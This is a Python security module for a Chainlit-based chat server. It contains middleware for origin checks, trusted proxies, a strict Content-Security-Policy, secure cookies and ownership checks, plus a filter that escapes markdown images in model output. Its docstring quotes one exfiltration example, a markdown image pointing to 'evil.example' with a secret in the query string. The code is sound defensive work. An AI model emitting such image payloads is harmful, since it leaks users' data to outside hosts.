"""What keeps the page and the widget safe on the web: origins, the page's CSP, model output.

- :class:`OriginGuard` (ASGI) answers 403 to any HTTP request, and closes any socket handshake,
  whose ``Origin`` is neither this server nor one of ``CHORUS_ALLOWED_ORIGINS``: another site's
  scripts get no data and no session, whatever cookies the browser holds.
- :class:`PageHardening` (ASGI) gives the page a Content-Security-Policy (scripts only from this
  server, images only from this server or inline data, nothing framed by other sites) and drops
  the web fonts and KaTeX styles Chainlit would load from CDNs, so the page makes no outside
  request at all.
- :class:`SecureCookies` (ASGI) marks cookies ``Secure`` on HTTPS.
- :class:`CallerGuard` (ASGI) names the logged-in caller of every HTTP request for the data
  layer's ownership checks (:mod:`chorus.store.caller`), and answers 403 to a request whose
  write the data layer refused, whatever the route would have said.
- :func:`neutralise_images` and :class:`ImageGuard` stop model output from embedding images:
  in the widget the host site's page decides the CSP, so a markdown image pointing elsewhere
  (``![x](https://evil.example/?secret=...)``, a known exfiltration trick) must never reach the
  browser as an image.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import ipaddress
import json
import re
from collections.abc import Awaitable, Callable, Iterable, MutableMapping
from typing import Any
from urllib.parse import urlsplit

from chorus.settings import normalise_origin

Scope = MutableMapping[str, Any]
Message = MutableMapping[str, Any]
Receive = Callable[[], Awaitable[Message]]
Send = Callable[[Message], Awaitable[None]]
ASGIApp = Callable[[Scope, Receive, Send], Awaitable[None]]


def _header(scope: Scope, name: bytes) -> str | None:
    for key, value in scope.get("headers", []):
        if key == name:
            return bytes(value).decode("latin-1")
    return None


Network = ipaddress.IPv4Network | ipaddress.IPv6Network
PROXIED = "chorus.trusted_proxy"  # set in the ASGI scope of a request that came through a trusted proxy


def from_trusted_proxy(scope: Scope, proxies: Iterable[Network]) -> bool:
    """Whether the request came straight from one of the operator's reverse proxies."""
    client = scope.get("client")
    if not client:
        return False
    try:
        address = ipaddress.ip_address(str(client[0]))
    except ValueError:
        return False
    if isinstance(address, ipaddress.IPv6Address) and address.ipv4_mapped is not None:
        address = address.ipv4_mapped  # ::ffff:10.0.0.5 from a server bound to ::
    return any(address in network for network in proxies)


class TrustedProxies:
    """Believes ``X-Forwarded-For``, ``-Proto`` and ``-Host`` only from ``CHORUS_TRUSTED_PROXIES``:
    anyone can send those headers. Outermost; with it on, uvicorn's own proxy handling is off
    (``FORWARDED_ALLOW_IPS`` empty), so the address of the peer is still known here. Without it,
    uvicorn believes ``X-Forwarded-For``/``-Proto`` from loopback (its default) and nobody's
    ``X-Forwarded-Host``."""

    def __init__(self, app: ASGIApp, proxies: Iterable[Network]) -> None:
        from uvicorn.middleware.proxy_headers import ProxyHeadersMiddleware

        self.app = app
        self.proxies = list(proxies)
        self.forwarded = ProxyHeadersMiddleware(app, trusted_hosts=[str(n) for n in self.proxies])  # type: ignore[arg-type]

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] in ("http", "websocket") and from_trusted_proxy(scope, self.proxies):
            scope[PROXIED] = True
            await self.forwarded(scope, receive, send)  # type: ignore[arg-type]
            return
        await self.app(scope, receive, send)


class OriginGuard:
    """Refuses cross-origin requests and socket handshakes from origins not on the list.

    The page's own origin is the request's ``Host``; ``X-Forwarded-Host`` counts only from a
    trusted proxy (:class:`TrustedProxies`).
    """

    def __init__(self, app: ASGIApp, allowed: Iterable[str]) -> None:
        self.app = app
        self.allowed = {normalise_origin(o) for o in allowed}

    def allows(self, origin: str, hosts: Iterable[str | None]) -> bool:
        try:
            origin = normalise_origin(origin)
        except ValueError:
            return False  # "null" (sandboxed frames, file:) and anything malformed
        if urlsplit(origin).netloc in {h.strip().lower() for h in hosts if h}:
            return True  # the page itself (behind a proxy, the host it was asked for)
        return origin in self.allowed

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] in ("http", "websocket"):
            origin = _header(scope, b"origin")
            forwarded = _header(scope, b"x-forwarded-host") if scope.get(PROXIED) else None
            hosts = (_header(scope, b"host"), forwarded)
            if origin is not None and not self.allows(origin, hosts):
                if scope["type"] == "websocket":
                    await send({"type": "websocket.close", "code": 1008, "reason": "origin not allowed"})
                    return
                body = b'{"detail":"This origin may not use this Chorus server (CHORUS_ALLOWED_ORIGINS)."}'
                await send({"type": "http.response.start", "status": 403,
                            "headers": [(b"content-type", b"application/json"),
                                        (b"content-length", str(len(body)).encode())]})
                await send({"type": "http.response.body", "body": body})
                return
        await self.app(scope, receive, send)


_CDN_TAGS = re.compile(
    r"<link\b[^>]*\bhref=\"https://(?:fonts\.googleapis\.com|fonts\.gstatic\.com|cdn\.jsdelivr\.net)[^\"]*\"[^>]*/?>",
    re.I | re.S,
)
_INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>(.*?)</script>", re.I | re.S)


def harden_html(html: str, frame_ancestors: Iterable[str] = ()) -> tuple[str, str]:
    """(the page without its CDN links, the Content-Security-Policy that fits it)."""
    html = _CDN_TAGS.sub("", html)
    hashes = " ".join(
        "'sha256-" + base64.b64encode(hashlib.sha256(body.encode("utf-8")).digest()).decode() + "'"
        for body in _INLINE_SCRIPT.findall(html)
    )
    ancestors = " ".join(["'self'", *frame_ancestors])
    policy = "; ".join([
        "default-src 'self'",
        f"script-src 'self' {hashes}".strip(),
        "style-src 'self' 'unsafe-inline'",  # React sets inline styles; styles cannot send data out
        "img-src 'self' data: blob:",  # no remote images: a model cannot leak data through one
        "font-src 'self' data:",
        "connect-src 'self'",
        "media-src 'self' data: blob:",
        "worker-src 'self' blob:",
        "object-src 'none'",
        "base-uri 'self'",
        "form-action 'self'",
        f"frame-ancestors {ancestors}",
    ])
    return html, policy


class PageHardening:
    """Rewrites the page's HTML (no CDN links) and sends it with a CSP and related headers."""

    def __init__(self, app: ASGIApp, frame_ancestors: Iterable[str] = ()) -> None:
        self.app = app
        self.frame_ancestors = list(frame_ancestors)

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http" or scope.get("method") not in ("GET", "HEAD"):
            await self.app(scope, receive, send)
            return
        start: Message | None = None
        chunks: list[bytes] = []

        async def capture(message: Message) -> None:
            nonlocal start
            if message["type"] == "http.response.start":
                headers = {bytes(k).lower(): bytes(v) for k, v in message.get("headers", [])}
                if headers.get(b"content-type", b"").startswith(b"text/html"):
                    start = message
                    return
                await send(message)
                return
            if start is None:
                await send(message)
                return
            chunks.append(bytes(message.get("body", b"")))
            if message.get("more_body"):
                return
            await send_page(start, b"".join(chunks))

        async def send_page(message: Message, body: bytes) -> None:
            headers = [(bytes(k).lower(), bytes(v)) for k, v in message.get("headers", [])]
            encoding = dict(headers).get(b"content-encoding", b"")
            if encoding == b"gzip":
                body = gzip.decompress(body)
            elif encoding:
                await send(message)
                await send({"type": "http.response.body", "body": body})
                return
            html, policy = harden_html(body.decode("utf-8", errors="replace"), self.frame_ancestors)
            own = dict(headers).get(b"content-security-policy")
            if own is not None:  # a page of Chorus's own with a stricter policy (the admin page)
                policy = own.decode()
            out = html.encode("utf-8")
            keep = [(k, v) for k, v in headers if k not in (b"content-length", b"content-encoding",
                                                              b"content-security-policy")]
            keep += [(b"content-length", str(len(out)).encode()),
                     (b"content-security-policy", policy.encode()),
                     (b"x-content-type-options", b"nosniff"),
                     (b"referrer-policy", b"same-origin")]
            await send({**message, "headers": keep})
            await send({"type": "http.response.body", "body": out if scope.get("method") != "HEAD" else b""})

        await self.app(scope, receive, capture)


def request_token(scope: Scope) -> str | None:
    """The login token an HTTP request carries: Chainlit's auth cookie, else a bearer token."""
    from chainlit.auth.cookie import get_token_from_cookies
    from starlette.requests import cookie_parser

    cookie = _header(scope, b"cookie")
    if cookie:
        token = get_token_from_cookies(cookie_parser(cookie))
        if token:
            return str(token)
    scheme, _, value = (_header(scope, b"authorization") or "").partition(" ")
    if scheme.lower() != "bearer":
        return None
    return value.strip() or None


def token_identifier(token: str | None) -> str | None:
    """The user a valid login token names (None for a missing, forged or expired one)."""
    if not token:
        return None
    try:
        from chainlit.auth.jwt import decode_jwt

        return str(decode_jwt(token).identifier)
    except Exception:
        return None


class CallerGuard:
    """Every HTTP request's logged-in caller, for the data layer; a refused write answers 403.

    The socket's own HTTP transport is left alone: its events run in the Chainlit session of
    the socket, whose user the data layer reads instead.
    """

    def __init__(self, app: ASGIApp) -> None:
        self.app = app

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http" or str(scope.get("path", "")).startswith("/ws/"):
            await self.app(scope, receive, send)
            return
        from chorus.store.caller import begin_request

        caller = begin_request(token_identifier(request_token(scope)))
        started = answered = False

        async def refuse() -> None:
            nonlocal answered
            answered = True
            body = json.dumps({"detail": f"Not yours: {caller.refused}."}).encode()
            await send({"type": "http.response.start", "status": 403,
                        "headers": [(b"content-type", b"application/json"),
                                    (b"content-length", str(len(body)).encode())]})
            await send({"type": "http.response.body", "body": body})

        async def guarded(message: Message) -> None:
            nonlocal started
            if answered:
                return  # the route's own answer to a refused write is replaced, not appended
            if message["type"] == "http.response.start":
                if caller.refused:
                    await refuse()
                    return
                started = True
            await send(message)

        try:
            await self.app(scope, receive, guarded)
        except Exception:
            if not caller.refused or started or answered:
                raise
            await refuse()  # the route let the refusal escape: a 403, not a 500


class SecureCookies:
    """Marks every cookie ``Secure`` when the request came over HTTPS (directly, or through a
    trusted proxy that said so, which uvicorn or :class:`TrustedProxies` turned into the scope's
    scheme): Chainlit only does for ``SameSite=None``."""

    def __init__(self, app: ASGIApp) -> None:
        self.app = app

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        https = scope.get("scheme") == "https"
        if scope["type"] != "http" or not https:
            await self.app(scope, receive, send)
            return

        async def secure(message: Message) -> None:
            if message["type"] == "http.response.start":
                headers = []
                for key, value in message.get("headers", []):
                    if bytes(key).lower() == b"set-cookie" and b"secure" not in bytes(value).lower():
                        value = bytes(value) + b"; Secure"
                    headers.append((key, value))
                message = {**message, "headers": headers}
            await send(message)

        await self.app(scope, receive, secure)


_IMAGE = re.compile(r"!\[")


def neutralise_images(text: str) -> str:
    """Model output with every markdown image turned into plain text (``![`` escaped)."""
    return _IMAGE.sub(r"!\\[", text)


class ImageGuard:
    """:func:`neutralise_images` over a stream of tokens: a ``!`` at the end of one token waits
    for the next, so an image split across tokens is caught too."""

    def __init__(self) -> None:
        self._held = ""

    def feed(self, token: str) -> str:
        text = self._held + token
        self._held = ""
        if text.endswith("!"):
            text, self._held = text[:-1], "!"
        return neutralise_images(text)

    def flush(self) -> str:
        held, self._held = self._held, ""
        return held
